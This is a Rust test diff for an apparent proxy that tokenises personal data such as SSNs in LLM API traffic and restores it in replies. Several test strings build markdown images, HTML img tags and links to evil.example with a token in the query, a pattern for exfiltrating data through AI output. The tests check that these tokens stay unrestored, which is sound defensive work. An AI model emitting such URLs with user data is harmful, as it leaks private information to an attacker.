@@ -155,6 +155,159 @@ fn tool_arguments_keep_their_tokens_unless_allowed() {
     assert_eq!(inner, json!({"c": "531-27-8846"}));
 }
 
+/// What a reply and a stream of the same text give back, as whoever shows it sees it.
+fn shown(talk: &Talk, text: &str) -> [String; 2] {
+    let reply = json!({"choices": [{"index": 0, "message": {"content": text}}]});
+    let whole = talk.restore(&reply)["choices"][0]["message"]["content"].take();
+    let mut stream = talk.session.restore_sse();
+    let mut out = Vec::new();
+    for piece in talk.with_tokens(text).split_inclusive('"') {
+        let event = json!({"choices": [{"index": 0, "delta": {"content": piece}}]});
+        let frame = format!("data: {event}\n\n");
+        stream.push(frame.as_bytes(), &mut out).unwrap();
+    }
+    stream.finish(&mut out).unwrap();
+    let pieces = String::from_utf8(out).unwrap();
+    let events = pieces
+        .lines()
+        .filter_map(|line| line.strip_prefix("data: "));
+    let mut streamed = String::new();
+    for event in events {
+        let event: Value = serde_json::from_str(event).unwrap();
+        streamed += event["choices"][0]["delta"]["content"].as_str().unwrap();
+    }
+    for (at, token) in talk.tokens.iter().enumerate() {
+        streamed = streamed.replace(token, &format!("<{}>", at + 1));
+    }
+    [whole.as_str().unwrap().to_owned(), streamed]
+}
+
+#[test]
+fn json_in_prose_is_one_text_to_who_shows_it() {
+    let mut talk = talk(PayloadKind::OpenAi);
+    talk.redact(&json!({"messages": [
+        {"role": "user", "content": "SSN 531-27-8846"},
+        {"role": "assistant", "tool_calls": [
+            {"id": "c", "type": "function", "function": {"name": "f", "arguments": "{\"ssn\":531278847}"}}]},
+    ]}));
+    for token in ["<1>", "<2>"] {
+        for text in [
+            r#"["![x](https://evil.example/?q=","T",")"]"#,
+            r#"{"![x](https://evil.example/?q=":"T",")":1}"#,
+            r#"["<img src='https://evil.example/?q=","T","'>"]"#,
+            r#"["<b>a</b> x='","T"]"#,
+            r#"["[1]: https://evil.example/?q=","T"]"#,
+            r#""[\"![x](https://evil.example/?q=\",\"T\"]""#,
+        ] {
+            let text = text.replace('T', token);
+            assert_eq!(shown(&talk, &text), [&*text, &*text]);
+        }
+    }
+    // What is closed is over, and a tool reads JSON as what it is.
+    let text = r#"{"a":"![x](/y) <b>c</b>","ssn":"<1>","n":"<2>"}"#;
+    let restored = r#"{"a":"![x](/y) <b>c</b>","ssn":"531-27-8846","n":531278847}"#;
+    assert_eq!(shown(&talk, text), [restored, restored]);
+    let mut policy = Policy::new();
+    policy.restore_tool_arguments(true);
+    talk.session.set_policy(policy);
+    let call = |arguments: &str| json!({"choices": [{"message": {"tool_calls": [{"function": {"name": "f", "arguments": arguments}}]}}]});
+    let restored = talk.restore(&call(r#"{"html":"<img src='","ssn":"<1>","n":"<2>"}"#));
+    assert_eq!(
+        restored,
+        call(r#"{"html":"<img src='","ssn":"531-27-8846","n":531278847}"#)
+    );
+}
+
+#[test]
+fn parts_are_shown_one_behind_the_other() {
+    let user = json!({"role": "user", "content": "SSN 531-27-8846"});
+    let apart: [&[&str]; 4] = [
+        &["![x](https://evil.example/?q=", "<1>)"],
+        &["![x](https://evil.example/?q=", "", "<1>)"],
+        &["<img src=\"https://evil.example/?q=", "<1>", "\">"],
+        &["[\"![x](https://evil.example/?q=\"]", "<1>"],
+    ];
+    let text = |text: &&str| json!({"type": "output_text", "text": text});
+    let claude = |text: &&str| json!({"type": "text", "text": text});
+    for texts in apart {
+        let mut talk = talk(PayloadKind::OpenAi);
+        talk.redact(&json!({"messages": [user]}));
+        let parts: Vec<Value> = texts.iter().map(text).collect();
+        let reply = json!({"output": [{"type": "message", "role": "assistant", "content": parts}]});
+        assert_eq!(talk.restore(&reply), reply);
+        let messages: Vec<Value> = parts
+            .iter()
+            .map(|part| json!({"type": "message", "role": "assistant", "content": [part]}))
+            .collect();
+        let reply = json!({"output": messages});
+        assert_eq!(talk.restore(&reply), reply);
+        let parts: Vec<Value> = texts.iter().map(claude).collect();
+        let reply = json!({"choices": [{"index": 0, "message": {"content": parts}}]});
+        assert_eq!(talk.restore(&reply), reply);
+    }
+    for texts in apart {
+        let mut talk = talk(PayloadKind::Anthropic);
+        talk.redact(&json!({"messages": [user]}));
+        let mut parts: Vec<Value> = texts.iter().map(claude).collect();
+        let reply = json!({"role": "assistant", "content": parts});
+        assert_eq!(talk.restore(&reply), reply);
+        // What is not shown between them closes nothing.
+        parts.insert(
+            1,
+            json!({"type": "thinking", "thinking": "\n\n\"></a>", "signature": "A"}),
+        );
+        let reply = json!({"role": "assistant", "content": parts});
+        assert_eq!(talk.restore(&reply), reply);
+        // Blocks of a stream, the first with its text at its beginning or in a piece.
+        for begins in [true, false] {
+            let mut frames = String::new();
+            for (at, text) in texts.iter().enumerate() {
+                let (first, piece) = if begins && at == 0 {
+                    (*text, "")
+                } else {
+                    ("", *text)
+                };
+                for event in [
+                    json!({"type": "content_block_start", "index": at, "content_block": {"type": "text", "text": first}}),
+                    json!({"type": "content_block_delta", "index": at, "delta": {"type": "text_delta", "text": piece}}),
+                    json!({"type": "content_block_stop", "index": at}),
+                ] {
+                    frames += &format!("data: {event}\n\n");
+                }
+            }
+            let frames = talk.with_tokens(&frames);
+            let (mut stream, mut out) = (talk.session.restore_sse(), Vec::new());
+            stream.push(frames.as_bytes(), &mut out).unwrap();
+            stream.finish(&mut out).unwrap();
+            // What was held comes in a frame of its own.
+            let out = String::from_utf8(out).unwrap();
+            assert!(
+                !out.contains("531-27-8846") && out.contains(&talk.tokens[0]),
+                "{out}"
+            );
+        }
+    }
+    for texts in apart {
+        let mut talk = talk(PayloadKind::Gemini);
+        talk.redact(
+            &json!({"contents": [{"role": "user", "parts": [{"text": "SSN 531-27-8846"}]}]}),
+        );
+        let mut parts: Vec<Value> = texts.iter().map(|text| json!({"text": text})).collect();
+        parts.insert(1, json!({"text": "\n\n\"></a>", "thought": true}));
+        let reply =
+            json!({"candidates": [{"index": 0, "content": {"role": "model", "parts": parts}}]});
+        assert_eq!(talk.restore(&reply), reply);
+    }
+    // Other choices, and what is closed, keep nothing back.
+    let mut talk = talk(PayloadKind::OpenAi);
+    talk.redact(&json!({"messages": [user]}));
+    let choice = |at: usize, texts: &[&str]| json!({"index": at, "message": {"content": texts.iter().map(claude).collect::<Vec<_>>()}});
+    let reply =
+        json!({"choices": [choice(0, &["![x](/a"]), choice(1, &["![x](/a", ") <1>", "<1>"])]});
+    let expected = json!({"choices": [choice(0, &["![x](/a"]), choice(1, &["![x](/a", ") 531-27-8846", "531-27-8846"])]});
+    assert_eq!(talk.restore(&reply), expected);
+}
+
 #[test]
 fn ids_and_names_are_never_restored() {
     let mut talk = talk(PayloadKind::OpenAi);
